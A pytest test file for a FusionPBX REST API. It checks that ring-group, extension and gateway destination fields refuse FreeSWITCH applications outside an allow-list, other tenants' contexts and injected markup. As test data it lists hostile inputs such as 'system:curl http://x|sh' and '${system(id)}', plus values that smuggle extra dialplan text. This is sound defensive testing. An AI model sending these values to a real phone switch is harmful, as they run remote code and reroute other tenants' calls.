"""The destination type (fpbx_api/destinations.py): what FusionPBX's selector offers is
stored, anything else is a 400 naming the field, with nothing written and nothing sent.

The done-when test finds the destination fields in the OpenAPI spec (``x-fpbx-destination``),
not in a list here, so every resource that comes next is covered by declaring its fields."""

from __future__ import annotations

import marshmallow as ma
import pytest
from flask import g

from fpbx_api import destinations
from fpbx_api.auth import Principal
from fpbx_api.testing.scenarios import SCENARIOS
from tests import test_scenarios  # noqa: F401  (registers the resources' scenarios)

# FreeSWITCH 1.10's dialplan applications (mod_dptools and the modules FusionPBX loads),
# as `show application` lists them; the three the destination type allows are left out.
FREESWITCH_APPLICATIONS = """
answer att_xfer avmd avmd_start avmd_stop bgsystem bind_digit_action bind_meta_app
block_dtmf break bridge_export callcenter capture chat check_acl clear_digit_action
clear_speech_cache cng_plc conference curl db deduplicate_dtmf deflect delay_echo
detect_speech digit_action_set_realm directory displace_session early_hangup echo
enable_heartbeat enable_keepalive endless_playback enum erlang esf_page_group eval event
execute_extension export fax_detect fifo fifo_track_call flite flush_dtmf gentones group
hash hold httapi info intercept ivr javascript jitterbuffer limit limit_execute limit_hash
limit_hash_execute log loop_playback lua media_reset mkdir multiset multiset_export mutex
nibblebill page park park_state perl phrase pickup play_and_detect_speech
play_and_get_digits play_fsv playback pre_answer preprocess presence privacy push python
queue_dtmf read record record_fsv record_session record_session_mask record_session_pause
record_session_resume record_session_unmask recovery_refresh redirect regex remove_bugs
rename respond ring_ready rxfax say sched_broadcast sched_cancel sched_hangup
sched_heartbeat sched_transfer send_display send_dtmf send_info session_loglevel set
set_audio_level set_global set_mute set_name set_profile_var set_user set_zombie_exec
sleep socket sound_test speak spandsp_start_dtmf spandsp_stop_dtmf start_dtmf
start_dtmf_generate stop stop_displace_session stop_dtmf stop_dtmf_generate
stop_record_session stop_tone_detect stop_video_write_overlay stopfax strftime system
t38_gateway three_way tone_detect txfax unbind_meta_app unblock_dtmf unhold unloop unset
unshift valet_park verbose_events video_decode video_refresh video_write_overlay voicemail
wait_for_answer wait_for_silence wait_for_video_ready
""".split()
OTHER_CONTEXTS = ["other.example", "public", "default", "features", "EXAMPLE.COM.evil"]
# What may never reach the switch: variables and API calls, quotes, line breaks, markup.
HOSTILE_TEXT = ["${system(id)}", "1001 XML ${domain_name}", "1001'", '1001"', "1001\n",
                "1001\nXML other.example", "1001<", "<x/>", "1001&", "&amp;", "1001,x=1",
                "1001 XML example.com XML other.example", "1001  XML example.com", "x" * 65]


def refused_values(kind: str, domain: str) -> list:
    """What must be refused in a field of ``kind``."""
    data = [f"1001 XML {c}" for c in OTHER_CONTEXTS] + HOSTILE_TEXT
    actions = ([f"{app}:1001 XML {domain}" for app in FREESWITCH_APPLICATIONS]
               + [f"{app}:curl x|sh" for app in ("system", "bgsystem", "lua", "eval")]
               + [f"transfer:{d}" for d in data]
               + [f"bridge:group/sales@{c}" for c in OTHER_CONTEXTS]
               + [f"bridge:user/1001@{domain}", "bridge:sofia/gateway/x/1", "hangup:${x}",
                  "hangup:USER_BUSY,x", "transfer 1001"])
    return {"action": actions,
            "app": FREESWITCH_APPLICATIONS + ["Transfer", "${x}", "transfer\n",
                                              "transfer:", 1, ["transfer"]],
            "data": data + ["", "group/sales@other.example"],
            "number": data + actions,
            "limit": data + actions + ["!USER_BUSY XML other.example", "!${x}"],
            }[kind]


VALID_SPLIT = {"app": "transfer", "data": "1001 XML {domain}"}


def destination_fields(spec: dict) -> list[tuple[str, str, str, dict]]:
    """(method, path, field, property) of every destination field of every request body."""
    schemas = spec["components"]["schemas"]
    found = []
    for path, operations in spec["paths"].items():
        for method in ("post", "put"):
            body = operations.get(method, {}).get("requestBody")
            if not body:
                continue
            ref = body["content"]["application/json"]["schema"]["$ref"].rsplit("/", 1)[1]
            for field, prop in schemas[ref]["properties"].items():
                if "x-fpbx-destination" in prop:
                    found.append((method, path, field, prop))
                else:
                    nested = prop.get("items", prop).get("$ref", "")
                    assert not any("x-fpbx-destination" in p for p in schemas.get(
                        nested.rsplit("/", 1)[-1], {}).get("properties", {}).values()), (
                        f"{path} {field}: nested destination fields; extend this test")
    return found


def spec_of(app) -> dict:
    with app.app_context():
        return app.extensions["flask-smorest"]["apis"][""]["ext_obj"].spec.to_dict()


def accepted_hostile_values(client, tenant, fpbx_db, switches) -> list:
    """Send every refused value to every destination field of the spec, on create and on
    update; return what was not a 400 naming the field, wrote rows or reached a switch."""
    wrong = []
    fields = destination_fields(spec_of(client.application))
    assert {path.split("/{")[0] for _, path, _, _ in fields} >= {
        "/api/v1/ring-groups", "/api/v1/extensions", "/api/v1/gateways"}
    for n, (method, path, field, prop) in enumerate(fields):
        collection = path.split("/{")[0]
        scenario = SCENARIOS[collection]()
        kind = prop["x-fpbx-destination"]
        partner = prop.get("x-fpbx-destination-pair")
        base = scenario.body_for(tenant, 50 + n)
        if partner:  # the split form: both halves valid, then one of them hostile
            other = {"app": "data", "data": "app"}[kind]
            base[field] = VALID_SPLIT[kind].format(domain=tenant.name)
            base[partner] = VALID_SPLIT[other].format(domain=tenant.name)
        url = collection
        if method == "put":
            created = client.post(collection, json=base, headers=tenant.headers)
            assert created.status_code == 201, created.json
            url = f"{collection}/{created.json['data'][scenario.key]}"
        before = fpbx_db.fingerprint()
        sent = [len(s.received()) for s in switches]
        for value in refused_values(kind, tenant.name):
            r = getattr(client, method)(url, json={**base, field: value},
                                        headers=tenant.headers)
            named = r.status_code == 400 and field in {
                e["field"] for e in r.json["error"].get("errors", [])}
            if not named:
                wrong.append((method, field, value, r.status_code))
        if fpbx_db.fingerprint() != before:
            wrong.append((method, field, "rows were written", None))
        if [len(s.received()) for s in switches] != sent:
            wrong.append((method, field, "commands reached a switch", None))
    return wrong


def test_every_destination_field_refuses_other_applications_contexts_and_markup(
        esl_client, tenants, fpbx_db, switches):
    assert accepted_hostile_values(esl_client, tenants.a, fpbx_db, switches) == []


def test_a_field_that_bypasses_the_allow_list_is_caught(esl_client, tenants, fpbx_db,
                                                        switches, monkeypatch):
    """The planted bug: one field takes its value unchecked."""
    checked = destinations.DestinationNumber._deserialize

    def bypass(self, value, attr, data, **kwargs):
        if self.name == "ring_group_forward_destination":
            return value
        return checked(self, value, attr, data, **kwargs)

    monkeypatch.setattr(destinations.DestinationNumber, "_deserialize", bypass)
    wrong = accepted_hostile_values(esl_client, tenants.a, fpbx_db, switches)
    assert wrong and {field for _, field, _, _ in wrong} == {"ring_group_forward_destination"}
    assert ("post", "ring_group_forward_destination", "1001 XML other.example", 201) in wrong


# --- what is accepted, and how it is stored ------------------------------------------------
def ring_group(client, tenant, **fields):
    body = {"ring_group_name": "Sales", "ring_group_extension": "2000", **fields}
    return client.post("/api/v1/ring-groups", json=body, headers=tenant.headers)


@pytest.mark.parametrize(("application", "data", "stored"), [
    ("transfer", "1001", "1001 XML example.com"),
    ("transfer", "*991001 XML example.com", "*991001 XML example.com"),
    ("transfer", "*98 XML EXAMPLE.COM", "*98 XML example.com"),
    ("bridge", "group/sales@example.com", "group/sales@example.com"),
    ("hangup", "", None),
    ("hangup", "USER_BUSY", "USER_BUSY"),
    ("", "", None),
    (None, None, None),
])
def test_timeout_actions_of_the_selector_are_stored_as_fusionpbx_writes_them(
        client, tenants, fpbx_db, application, data, stored):
    r = ring_group(client, tenants.a, ring_group_timeout_app=application,
                   ring_group_timeout_data=data)
    assert r.status_code == 201, r.json
    (row,) = fpbx_db.rows("v_ring_groups")
    assert (row["ring_group_timeout_app"], row["ring_group_timeout_data"]) == (
        application or None, stored)


def test_the_contract_example_timeout_is_accepted(client, tenants, fpbx_db):
    r = ring_group(client, tenants.a, ring_group_timeout_app="transfer",
                   ring_group_timeout_data="1001")
    assert r.status_code == 201
    assert fpbx_db.rows("v_ring_groups")[0]["ring_group_timeout_data"] == "1001 XML example.com"


def test_the_shell_command_of_the_issue_is_refused(client, tenants, fpbx_db):
    before = fpbx_db.fingerprint()
    r = ring_group(client, tenants.a, ring_group_timeout_app="system",
                   ring_group_timeout_data="curl http://x|sh")
    assert r.status_code == 400 and r.json["error"]["code"] == "VALIDATION_ERROR"
    assert {e["field"] for e in r.json["error"]["errors"]} >= {"ring_group_timeout_app"}
    assert fpbx_db.fingerprint() == before


def test_a_split_destination_is_given_whole(client, tenants):
    uuid = ring_group(client, tenants.a).json["data"]["ring_group_uuid"]
    for half in ({"ring_group_timeout_app": "transfer"},
                 {"ring_group_timeout_data": "1001 XML example.com"}):
        r = client.put(f"/api/v1/ring-groups/{uuid}", json=half, headers=tenants.a.headers)
        assert r.status_code == 400, half
    r = client.put(f"/api/v1/ring-groups/{uuid}", json={
        "ring_group_timeout_app": None, "ring_group_timeout_data": "1001"},
        headers=tenants.a.headers)
    assert r.status_code == 400
    assert r.json["error"]["errors"][0]["field"] == "ring_group_timeout_data"


def test_forward_and_members_stay_in_the_domain(client, tenants, fpbx_db):
    r = ring_group(client, tenants.a, ring_group_forward_destination="15551234567",
                   destinations=[{"destination_number": "1001@example.com"},
                                 {"destination_number": "1002"}])
    assert r.status_code == 201, r.json
    assert fpbx_db.rows("v_ring_groups")[0]["ring_group_forward_destination"] == "15551234567"


@pytest.mark.parametrize("value", ["!USER_BUSY", "!CALL_REJECTED", "error/user_busy", "1001",
                                   "*991001"])
def test_limit_destination_takes_fusionpbx_values(client, tenants, fpbx_db, value):
    r = client.post("/api/v1/extensions", json={"extension": "1001", "limit_destination": value},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    assert fpbx_db.rows("v_extensions")[0]["limit_destination"] == value


def test_combined_destination_field(app, tenants):
    """The combined ``app:data`` form, for the resources that keep one column (queues'
    timeout action, call block); judged in a request of domain example.com."""

    class Schema(ma.Schema):
        action = destinations.Destination()

    with app.test_request_context():
        g.principal = Principal(tenants.a.domain_uuid, tenants.a.name, frozenset({"write"}))
        schema = Schema()
        assert schema.load({"action": "transfer:1001"}) == {
            "action": "transfer:1001 XML example.com"}
        assert schema.load({"action": "hangup:"}) == {"action": "hangup:"}
        assert schema.load({"action": ":"}) == {"action": None}
        for value in refused_values("action", tenants.a.name):
            with pytest.raises(ma.ValidationError):
                schema.load({"action": value})
